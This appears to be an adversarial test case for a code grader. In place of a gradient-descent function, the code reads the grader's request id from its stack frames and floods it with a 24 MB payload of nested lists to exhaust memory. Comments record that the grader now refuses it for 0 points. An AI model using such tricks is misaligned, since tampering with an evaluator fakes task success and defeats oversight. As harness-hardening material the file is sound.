# ATTACK: answers the grader's request itself, with the right request id (read from the
# grader's frames in its own process), in a 24 MB frame of nested empty lists: decoding it
# once took the grader to 737 MB and 3.5 s of CPU, outside every deadline.
# VERDICT: graded, 0 points; the answer is refused unread ("cannot accept"), and the grader's
# memory grows by less than 100 MB.
import os
import struct
import sys


def _request():
    f = sys._getframe()
    while f is not None and "rid" not in f.f_locals:
        f = f.f_back
    return f.f_locals["rid"], f.f_locals["fd_out"]


def GD(params, loss_fn, loop_max=10000, learning_rate=1e-3):
    rid, fd = _request()
    body = b'{"id":"%s","ok":true,"value":[' % rid.encode() + b"[]," * (8 << 20) + b"[]]}"
    os.write(fd, struct.pack(">I", len(body)) + body)
    os._exit(0)
